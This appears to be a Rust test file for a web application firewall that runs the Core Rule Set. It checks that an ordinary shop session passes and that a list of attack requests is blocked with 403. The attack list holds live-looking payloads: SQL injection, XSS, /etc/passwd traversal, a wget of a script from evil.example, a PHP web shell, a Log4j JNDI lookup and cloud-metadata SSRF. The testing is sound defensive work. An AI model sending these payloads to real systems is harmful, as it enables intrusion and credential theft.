//! The stock CRS in blocking mode at paranoia level 1: ordinary sessions pass, the attack classes are refused. A suite
//! in detect mode proves no decision.

#![allow(clippy::unwrap_used, reason = "a broken rule set must fail the test")]

#[path = "../../tests/src/crs.rs"]
mod crs;

use std::sync::Arc;

use weir_rules::ftw::crs_sources;
use weir_rules::{Connection, Disk, Options, RequestLine, RuleSet, Transaction, Verdict, compile};

fn crs() -> Option<Arc<RuleSet>> {
    let crs = crs::checkout("rules")?;
    let sources = crs_sources(&crs, "SecResponseBodyAccess On\n", false).unwrap();
    Some(compile(&sources, &Disk).unwrap().rules)
}

struct Request<'a> {
    method: &'a str,
    target: &'a str,
    headers: &'a [(&'a str, &'a str)],
    body: &'a str,
}

fn judge(rules: &Arc<RuleSet>, request: &Request<'_>) -> (Verdict, Vec<u64>) {
    let mut tx = Transaction::new(Arc::clone(rules), &Options::default(), &Connection::LOOPBACK);
    let length = request.body.len().to_string();
    let mut fields: Vec<(&[u8], &[u8])> = vec![
        (b"Host", b"shop.example.com"),
        (
            b"User-Agent",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        ),
        (
            b"Accept",
            b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        (b"Accept-Language", b"en-US,en;q=0.5"),
        (b"Accept-Encoding", b"gzip, deflate, br, zstd"),
        (
            b"Cookie",
            b"session=5f2b8c0e9a7d4e1f; theme=dark; _ga=GA1.2.1234567890.1700000000",
        ),
    ];
    fields.extend(request.headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())));
    if !request.body.is_empty() {
        fields.push((b"Content-Length", length.as_bytes()));
    }
    let line = RequestLine {
        method: request.method.as_bytes(),
        target: request.target.as_bytes(),
        protocol: b"HTTP/1.1",
    };
    let mut verdict = tx.request_headers(&line, &fields);
    if verdict == Verdict::Continue {
        verdict = tx.request_body(request.body.as_bytes());
    }
    if verdict == Verdict::Continue {
        verdict = tx.response_headers(
            200,
            b"HTTP/1.1",
            &[(b"Content-Type", b"text/html; charset=utf-8")],
        );
    }
    if verdict == Verdict::Continue && tx.wants_response_body() {
        verdict = tx.response_body(b"<!doctype html><title>Shop</title><h1>Thank you for your order</h1>");
    }
    let ids = tx.finish().matches.iter().map(|m| m.id).collect();
    (verdict, ids)
}

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("Content-Type", "application/json");
const UPLOAD: (&str, &str) = (
    "Content-Type",
    "multipart/form-data; boundary=----weirboundary7MA4YWxk",
);

fn get(target: &str) -> Request<'_> {
    Request {
        method: "GET",
        target,
        headers: &[],
        body: "",
    }
}

fn post<'a>(target: &'a str, headers: &'a [(&'a str, &'a str)], body: &'a str) -> Request<'a> {
    Request {
        method: "POST",
        target,
        headers,
        body,
    }
}

#[test]
fn an_ordinary_session_is_let_through() {
    let Some(rules) = crs() else { return };
    let upload = "------weirboundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday\r\n\
        ------weirboundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"beach.jpg\"\r\n\
        Content-Type: image/jpeg\r\n\r\n\u{1}\u{2}binary\u{3}\r\n------weirboundary7MA4YWxk--\r\n";
    let session = [
        get("/"),
        get("/products?category=shoes&page=2&sort=price_asc"),
        get("/assets/app.min.js?v=1.24.3"),
        get("/search?q=red+running+shoes"),
        get("/account/orders/2026-10-12/invoice.pdf"),
        post(
            "/login",
            &[FORM],
            "email=jane.doe%40example.com&password=Correct-horse-7&remember=1",
        ),
        post(
            "/contact",
            &[FORM],
            "name=Jane+Doe&message=Hello%2C+my+parcel+has+not+arrived+yet.+Could+you+look+into+it%3F+Thanks%21",
        ),
        post(
            "/api/cart",
            &[JSON],
            r#"{"items": [{"sku": "SH-0042", "qty": 2}, {"sku": "SO-7", "qty": 1}], "note": "Gift wrap, please", "total": 84.5}"#,
        ),
        post("/upload", &[UPLOAD], upload),
        Request {
            method: "PUT",
            target: "/api/profile",
            headers: &[JSON],
            body: r#"{"name": "Jane", "city": "Vienna", "newsletter": true}"#,
        },
    ];
    for request in &session {
        let (verdict, ids) = judge(&rules, request);
        // PUT is not among the methods that the stock set-up allows.
        let wanted = if request.method == "PUT" { "PUT" } else { "" };
        if wanted.is_empty() {
            assert_eq!((verdict, ids), (Verdict::Continue, vec![]), "{}", request.target);
        } else {
            assert_ne!(verdict, Verdict::Continue, "{}", request.target);
        }
    }
}

#[test]
fn attack_classes_are_refused() {
    let Some(rules) = crs() else { return };
    let attacks = [
        (
            "SQL injection",
            get("/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
        ),
        (
            "SQL injection in a form",
            post("/login", &[FORM], "user=admin%27+or+1%3D1--+-&password=x"),
        ),
        (
            "SQL injection in JSON",
            post("/api", &[JSON], r#"{"id": "1' or sleep(5)#"}"#),
        ),
        (
            "cross-site scripting",
            get("/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        ),
        (
            "cross-site scripting by event",
            get("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        ),
        ("path traversal", get("/?file=../../../../etc/passwd")),
        (
            "encoded path traversal",
            get("/download/..%2f..%2f..%2fetc/passwd"),
        ),
        ("command injection", get("/?host=127.0.0.1%3Bcat%20/etc/passwd")),
        (
            "Unix shell",
            post(
                "/ping",
                &[FORM],
                "ip=8.8.8.8%7Cwget+http%3A%2F%2Fevil.example%2Fx.sh",
            ),
        ),
        (
            "remote file inclusion",
            get("/?page=http://198.51.100.7/shell.php%3f"),
        ),
        ("PHP injection", get("/?x=%3C?php%20system($_GET[c]);?%3E")),
        ("Java", get("/?x=java.lang.Runtime.getRuntime().exec(%22id%22)")),
        ("Log4j", get("/?x=$%7Bjndi:ldap://evil.example/a%7D")),
        (
            "session fixation",
            get("/?x=%3Cscript%3Edocument.cookie=%22sessionid=1%22%3C/script%3E"),
        ),
        ("restricted file", get("/.git/config")),
        (
            "server-side request forgery",
            get("/?url=http://169.254.169.254/latest/meta-data/"),
        ),
        (
            "template injection",
            get("/?x=%7B%7Bconstructor.constructor('alert(1)')()%7D%7D"),
        ),
    ];
    for (class, request) in &attacks {
        let (verdict, ids) = judge(&rules, request);
        assert!(
            matches!(
                verdict,
                Verdict::Deny {
                    status: 403,
                    rule: 949_110 | 949_111,
                    ..
                }
            ),
            "{class}: {verdict:?} {ids:?}"
        );
    }
    let scanner = Request {
        headers: &[("X-Scanner", "x"), ("User-Agent", "sqlmap/1.7")],
        ..get("/")
    };
    assert_ne!(judge(&rules, &scanner).0, Verdict::Continue);
}
